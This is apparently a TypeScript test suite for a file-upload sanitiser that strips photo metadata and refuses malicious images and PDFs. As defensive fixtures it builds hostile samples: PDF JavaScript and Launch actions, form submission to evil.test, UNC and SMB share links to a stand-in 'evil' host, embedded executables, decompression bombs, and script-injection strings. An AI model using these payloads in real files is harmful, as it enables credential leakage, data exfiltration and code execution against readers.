import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { pdfOf } from '../../testing/factories/pdf-files.ts';
import { createGate } from '../gate/gate.ts';
import { createLog } from '../log/log.ts';
import { createMetrics } from '../metrics.ts';
import { createUploads } from './uploads.ts';

const log = createLog('silent');
const gate = createGate(createMetrics({ METRICS_TOKEN: undefined }));
const { admit } = createUploads({ env: { CLAMAV_URL: undefined }, log, gate });
const ALL = ['application/pdf', 'image/jpeg', 'image/png'] as const;
const take = (content: Buffer) =>
  admit(content, { types: ALL }, { typeKey: 'health.report.error.type' });
/** The key of the guardian's text, or the type of the kept file. */
const told = (content: Buffer) =>
  take(content).then(
    ({ mediaType }) => mediaType,
    ({ detail }) => detail.userMessageKey,
  );

const drawing = (width = 60, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: '#c33' } });

/** A picture as a phone takes it: rotated, with its place in the metadata. */
const photo = (format: 'jpeg' | 'png') =>
  drawing()
    .withExif({
      IFD0: { Artist: 'Marina Almeida', Orientation: '6' },
      IFD3: { GPSLatitude: '23/1 33/1 1/1', GPSLatitudeRef: 'S' },
    })
    .withMetadata({ orientation: 6 })
    .toFormat(format)
    .toBuffer();

/** One chunk of a PNG. */
function chunk(type: string, data: Buffer): Buffer {
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type), data]);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
}

function crc32(bytes: Buffer): number {
  let crc = -1;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** A PNG that declares this size; its content is the packed `rows`. */
function png(width: number, height: number, rows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('a picture', () => {
  test.each(['jpeg', 'png'] as const)(
    'loses its metadata about place and author, and is turned upright (%s)',
    async (format) => {
      const before = await photo(format);
      expect((await sharp(before).metadata()).exif).toBeDefined();
      const { mediaType, content } = await take(before);
      const after = await sharp(content).metadata();
      expect(mediaType).toBe(`image/${format}`);
      expect([after.exif, after.xmp, after.orientation]).toEqual([undefined, undefined, undefined]);
      expect([after.format, after.width, after.height]).toEqual([format, 40, 60]);
      expect(content.includes('Marina')).toBe(false);
    },
  );

  test('that is also a web page or an archive is only a picture afterwards', async () => {
    const polyglot = Buffer.concat([
      await photo('jpeg'),
      Buffer.from('<script>alert(1)</script>PK\u0003\u0004%PDF-1.7 /JavaScript'),
    ]);
    const { content } = await take(polyglot);
    for (const word of ['script', 'PK\u0003\u0004', '%PDF'])
      expect(content.includes(word)).toBe(false);
  });

  test('that declares more pixels than a copy can hold is refused before it is decoded', async () => {
    expect(await told(png(50_000, 50_000, Buffer.alloc(10)))).toBe('upload.error.tooManyPixels');
    const bomb = png(60_000, 60_000, Buffer.alloc(50_000_000));
    expect(bomb.length).toBeLessThan(100_000);
    const startedAt = process.memoryUsage().rss;
    expect(await told(bomb)).toBe('upload.error.tooManyPixels');
    expect(process.memoryUsage().rss - startedAt).toBeLessThan(200_000_000);
  });

  test('that unpacks to more than it declares is drawn at its declared size', async () => {
    const { content } = await take(png(10, 10, Buffer.alloc(20_000_000)));
    expect(content.length).toBeLessThan(2_000);
  });

  test('that breaks off, or is no picture after its first bytes, is refused', async () => {
    const whole = await drawing(200, 200).jpeg().toBuffer();
    const broken = [
      whole.subarray(0, whole.length / 2),
      whole.subarray(0, 3),
      png(10, 10, Buffer.alloc(3)),
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('<svg onload="alert(1)"/>')]),
    ];
    for (const content of broken) expect(await told(content)).toBe('upload.error.damaged');
  });
});

/** A PDF that opens without a password and has one that forbids changes. */
function encryptedPdf(): Promise<Buffer> {
  const doc = new PDFDocument({ ownerPassword: 'a doctor', pdfVersion: '1.7' });
  doc.text('what the doctor wrote').end();
  return buffer(doc);
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const FILE = '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>';
const CONTENT = '<</Length 2>>\nstream\nMZ\nendstream';

const tap = (action: string, ...objects: string[]) =>
  pdfOf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`, objects });
const address = (text: string) => tap(`/S/URI/URI(${text})`);

/** Data of this many bytes, each written as two hexadecimal digits. */
const digitsOf = (bytes: number, filter: string) =>
  `<</Length ${2 * bytes + 1}/Filter ${filter}>>\nstream\n${'00'.repeat(bytes)}>\nendstream`;

/** An object stream with a script, packed in layers that writers do not use. */
function oddlyPacked(filters: string, pack: (objects: Buffer) => Buffer): Buffer {
  const data = pack(Buffer.from(`4 0 ${SCRIPT}`)).toString('latin1');
  const stream = `<</Type/ObjStm/N 1/First 4/Length ${data.length}${filters}>>`;
  const body = `19 0 obj\n${stream}\nstream\n${data}\nendstream\nendobj\n`;
  const whole = pdfOf({ catalogue: '/OpenAction 4 0 R' }).toString('latin1');
  return Buffer.from(
    whole.replace('trailer', () => `${body}trailer`),
    'latin1',
  );
}

/** Each byte minus the byte above it, as tables' rows are packed (PNG's predictor "Up"). */
const asRows = (content: Buffer): Buffer => {
  const rows = Array.from({ length: Math.ceil(content.length / 4) }, (_, at) =>
    Buffer.concat([content.subarray(at * 4, at * 4 + 4), Buffer.alloc(4, ' ')]).subarray(0, 4),
  );
  return Buffer.concat(
    rows.map((row, at) =>
      Buffer.from([2, ...row.map((byte, x) => byte - (rows[at - 1]?.[x] ?? 0))]),
    ),
  );
};

/** A file as LibreOffice and Word write it: headings, marked text, links, named places, a form. */
const OFFICE = {
  catalogue:
    '/OpenAction[3 0 R/XYZ null null 0]/PageMode/UseOutlines/Outlines 4 0 R/Lang(pt-BR)' +
    '/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R/Names<</Dests 8 0 R>>' +
    '/AcroForm<</Fields[9 0 R]/NeedAppearances true>>/ViewerPreferences<</DisplayDocTitle true>>',
  page:
    '/Annots[9 0 R 10 0 R<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/F 4/Dest(there)>>]' +
    '/StructParents 0/Group<</Type/Group/S/Transparency/CS/DeviceRGB>>/Trans<</S/Dissolve>>',
  objects: [
    '<</Type/Outlines/First 5 0 R/Last 11 0 R/Count 2>>',
    '<</Title(One)/Parent 4 0 R/Next 11 0 R/A<</S/GoTo/D[3 0 R/Fit]>>>>',
    '<</Type/StructTreeRoot/K 7 0 R/RoleMap<</Standard/P>>>>',
    '<</Type/StructElem/S/P/P 6 0 R/A[12 0 R<</O/Layout/Placement/Block>>]/K 0/Pg 3 0 R>>',
    '<</Names[(there)<</D[3 0 R/XYZ 0 0 null]>>(tag)7 0 R]>>',
    '<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 9 9]/DA(/Helv 0 Tf)/F 4>>',
    '<</Subtype/Link/Rect[0 0 9 9]/A<</Type/Action/S/URI/URI(https://school.example:8080/a?b=c)>>>>',
    '<</Title(Two)/Parent 4 0 R/Prev 5 0 R/Dest[3 0 R/Fit]>>',
    '<</O/Table/Scope/Column>>',
  ],
};

/** A PDF with an invisible signature that forbids later changes. */
const SIGNED = {
  catalogue: '/AcroForm<</SigFlags 3/Fields[4 0 R]>>/Perms<</DocMDP 5 0 R>>',
  page: '/Annots[4 0 R]',
  objects: [
    '<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature1)/V 5 0 R/Rect[0 0 0 0]/F 132/P 3 0 R>>',
    '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 99 16483 99]' +
      `/Contents<${'0'.repeat(16_384)}>/Name(Marina Almeida)/M(D:20261125120000-03'00')` +
      '/Reference[<</Type/SigRef/TransformMethod/DocMDP' +
      '/TransformParams<</Type/TransformParams/P 2/V/1.2>>>>]>>',
  ],
};

/** A PDF with headings, links, notes and a form, tagged for screen readers. */
function writtenPdf(): Promise<Buffer> {
  const doc = new PDFDocument({ tagged: true, lang: 'pt-BR', pdfVersion: '1.7' });
  doc.initForm();
  doc.outline.addItem('First').addItem('Second');
  const text = doc.struct('P', {}, () => void doc.text('what was found'));
  doc.addStructure(doc.struct('Document', {}, [text]));
  doc.link(9, 9, 50, 20, 'https://doctor.example').goTo(9, 40, 50, 20, 'there');
  doc.addNamedDestination('there');
  doc.note(9, 70, 20, 20, 'twice a day').highlight(9, 90, 20, 20);
  doc.formText('name', 9, 200, 90, 20).formCheckbox('yes', 9, 230, 20, 20).end();
  return buffer(doc);
}

/** A page that is one picture. */
async function scannedPdf(): Promise<Buffer> {
  const doc = new PDFDocument({ compress: false });
  doc
    .image(await photo('jpeg'), 0, 0)
    .image(await photo('png'), 0, 90)
    .end();
  return buffer(doc);
}

describe('a PDF', () => {
  test('is kept unchanged as scanners, office programs and doctors’ programs write it', async () => {
    const ordinary = {
      written: await writtenPdf(),
      scanned: await scannedPdf(),
      office: pdfOf(OFFICE),
      'packed office': pdfOf({ ...OFFICE, packed: true }),
      signed: pdfOf(SIGNED),
      'mail and place': tap('/S/URI/URI(mailto:dr@clinic.example)/Next<</S/Named/N/NextPage>>'),
      'no scheme': address('www.clinic.example/a:b'),
      'a button of a portal': address('javascript:void\\(0\\)'),
      'an app': address('whatsapp://send?phone=5511961234567'),
      'the page that was printed': address('file:///C:/Users/marina/laudo.html#top'),
      'an address by number': tap('/S/URI/URI 4 0 R', '(https://clinic.example)'),
      'what addresses begin with': pdfOf({ catalogue: '/URI<</Base(https://clinic.example/)>>' }),
      'data that are not packed': pdfOf({
        objects: ['<</Length 2/Filter null>>\nstream\nMZ\nendstream'],
      }),
      'a filter by number': pdfOf({ objects: [digitsOf(8, '5 0 R'), '[/ASCIIHexDecode]'] }),
      'a long run of digits': pdfOf({ objects: [digitsOf(150_000, '/ASCIIHexDecode')] }),
    };
    for (const [name, content] of Object.entries(ordinary)) {
      expect(await told(content), name).toBe('application/pdf');
    }
  });

  test.each<[string, Buffer]>([
    ['another file that is opened', tap(String.raw`/S/GoToR/F(\\\\evil\\a.pdf)/D[0/Fit]`)],
    ['an unknown action', pdfOf({ catalogue: '/OpenAction<</S/Quit>>' })],
    ['an action after another', tap('/S/GoTo/D[3 0 R/Fit]/Next[<</S/Movie>>]')],
    [
      'an action in a list, by number',
      pdfOf({ catalogue: '/OpenAction 4 0 R', objects: ['[5 0 R]', '<</S/Thread/F(a.pdf)>>'] }),
    ],
    [
      'actions of a page, by number',
      pdfOf({ page: '/AA 4 0 R', objects: ['<</O 5 0 R>>', '<</S/Sound/Sound 6 0 R>>'] }),
    ],
    ['a command of the reader’s', tap('/S/Named/N/SaveAs')],
    ['an address of a share', address(String.raw`\\\\evil\\share`)],
    ['an address of a share, with slashes', address(' //evil/share')],
    ['an address of a share, in digits', tap('/S/URI/URI<2F2F6576696C>')],
    ['an address of a share, over two lines', address('/\\n/evil')],
    ['an address of a share, without brackets', tap('/S/URI/URI/#2fevil/share')],
    ['an address of a share, by number', tap('/S/URI/URI 4 0 R', '[5 0 R]', '(//evil)')],
    [
      'an address of a share, by a number on two lines',
      Buffer.from(
        tap('/S/URI/URI 4 0 R', '(//evil)').toString('latin1').replace('4 0 obj', '4 %\n0 %\nobj'),
        'latin1',
      ),
    ],
    ['a file of another computer', address('File://evil/share')],
    ['a file of another computer, with more slashes', address('file:////evil/share')],
    ['a file of another computer, in digits', address('file:///%5C%5Cevil/share')],
    ['a share by its scheme', address('smb://evil/share')],
    ['addresses that begin with a share', pdfOf({ catalogue: '/URI<</Base(file://evil/)>>' })],
    [
      'a program behind a field',
      pdfOf({
        ...SIGNED,
        objects: [...SIGNED.objects, '<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(1)>>>>>>'],
      }),
    ],
    [
      'a kind that stands elsewhere',
      pdfOf({ page: '/Annots[<</Subtype 4 0 R>>]', objects: ['/Movie'] }),
    ],
    ['a film', pdfOf({ page: '/Annots[<</Subtype/Screen/Rect[0 0 9 9]>>]' })],
    [
      'a film, by number',
      pdfOf({ page: '/Annots 4 0 R', objects: ['[5 0 R]', '<</Subtype/Movie>>'] }),
    ],
    ['slides among its names', pdfOf({ catalogue: '/Names<</AlternatePresentations 4 0 R>>' })],
    ['names by number', pdfOf({ catalogue: '/Names 4 0 R', objects: ['<</Renditions 5 0 R>>'] })],
    [
      'a file that no list names',
      pdfOf({ catalogue: '/AF[4 0 R]', objects: [FILE.replace('/Type/Filespec', ''), CONTENT] }),
    ],
    [
      'data from elsewhere',
      pdfOf({ objects: ['<</Length 0/F(http://evil.test/a)>>\nstream\n\nendstream'] }),
    ],
    [
      'data in a layer of its own',
      pdfOf({ objects: ['<</Length 2/Filter/Crypt>>\nstream\nMZ\nendstream'] }),
    ],
    [
      'data in a layer of its own, by number',
      pdfOf({ objects: [digitsOf(8, '5 0 R'), '[/ASCIIHexDecode 6 0 R]', '/Crypt'] }),
    ],
    [
      'an action whose number stands on two lines',
      Buffer.from(
        pdfOf({ catalogue: '/OpenAction 4 0 R', objects: ['<</S/Movie>>'] })
          .toString('latin1')
          .replace('4 0 obj', '4 %\n0 %\nobj'),
        'latin1',
      ),
    ],
  ])('with %s is refused, since nothing of that kind is permitted', async (_, content) => {
    expect(await told(content)).toBe('upload.error.active');
  });

  test('that packs its objects in an unusual way is refused', async () => {
    const hex = (content: Buffer) => Buffer.from(`${deflateSync(content).toString('hex')}>`);
    const odd = {
      'two layers': oddlyPacked('/Filter[/ASCIIHexDecode/FlateDecode]', hex),
      rows: oddlyPacked('/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', (content) =>
        deflateSync(asRows(content)),
      ),
      'too deep': pdfOf({ objects: [`${'['.repeat(500)}${']'.repeat(500)}`] }),
    };
    for (const [name, content] of Object.entries(odd)) {
      expect(await told(content), name).toBe('upload.error.damaged');
    }
  });

  test('that neither runs nor contains anything is kept unchanged', async () => {
    const content = pdfOf({ comment: 'what the doctor wrote' });
    expect(await take(content)).toEqual({ mediaType: 'application/pdf', content });
    expect(await told(pdfOf({ objects: ['<</Title(About JavaScript)>>'], packed: true }))).toBe(
      'application/pdf',
    );
  });

  test.each<[string, Buffer]>([
    ['a script when it is opened', pdfOf({ catalogue: '/OpenAction 4 0 R', objects: [SCRIPT] })],
    [
      'a script among its names',
      pdfOf({ catalogue: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', objects: [SCRIPT] }),
    ],
    ['a script of a page', pdfOf({ page: '/AA<</O 4 0 R>>', objects: [SCRIPT] })],
    [
      'a script whose name is written in digits',
      pdfOf({ catalogue: '/OpenAction<</S/J#61vaScrip#74/JS(1)>>' }),
    ],
    ['a packed script', pdfOf({ catalogue: '/OpenAction 4 0 R', objects: [SCRIPT], packed: true })],
    ['a script that nothing refers to', pdfOf({ objects: [SCRIPT] })],
    ['a program to be started', pdfOf({ catalogue: '/OpenAction<</S/Launch/F(calc.exe)>>' })],
    [
      'a form to be sent somewhere',
      pdfOf({ page: '/AA<</O<</S/SubmitForm/F(http://evil.test)>>>>' }),
    ],
    [
      'an embedded file',
      pdfOf({
        catalogue: '/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>',
        objects: [FILE, CONTENT],
      }),
    ],
    [
      'a file pinned to a page',
      pdfOf({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]',
        objects: [FILE, CONTENT],
      }),
    ],
  ])('with %s is refused', async (_, content) => {
    expect(await told(content)).toBe('upload.error.active');
  });

  test('that is encrypted, or that no reader opens, is refused', async () => {
    expect(await told(await encryptedPdf())).toBe('upload.error.encrypted');
    const locked = pdfOf({
      trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O<${'0'.repeat(64)}>/U<${'0'.repeat(64)}>/P -4>>`,
    });
    expect(await told(locked)).toBe('upload.error.encrypted');
    expect(await told(Buffer.from('%PDF-1.7\nnothing else'))).toBe('upload.error.damaged');
    expect(await told(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1_000_000)]))).toBe(
      'upload.error.damaged',
    );
  });

  test('that unpacks to a great deal is checked piece by piece', async () => {
    const bomb = deflateSync(Buffer.alloc(40_000_000));
    const body = `<</Length ${bomb.length}/Filter/FlateDecode>>\nstream\n${bomb.toString('latin1')}\nendstream`;
    const content = Buffer.from(
      pdfOf({ objects: [] })
        .toString('latin1')
        .replace('trailer', `4 0 obj\n${body}\nendobj\ntrailer`),
      'latin1',
    );
    // Earlier tests have left memory allocated.
    const before = process.memoryUsage().rss;
    expect(await told(content)).toBe('application/pdf');
    expect(process.memoryUsage().rss - before).toBeLessThan(600_000_000);
  });
});

test('a file whose content is of no permitted type is refused, whatever its name', async () => {
  const others = [
    '',
    'MZ\u0090',
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
    'GIF89a',
    'PK\u0003\u0004',
  ];
  for (const content of others) {
    expect(await told(Buffer.from(content, 'latin1'))).toBe('health.report.error.type');
  }
  const only = admit(
    await photo('png'),
    { types: ['application/pdf'] },
    {
      typeKey: 'health.report.error.type',
    },
  );
  await expect(only).rejects.toMatchObject({ code: 'unsupported_media_type' });
});
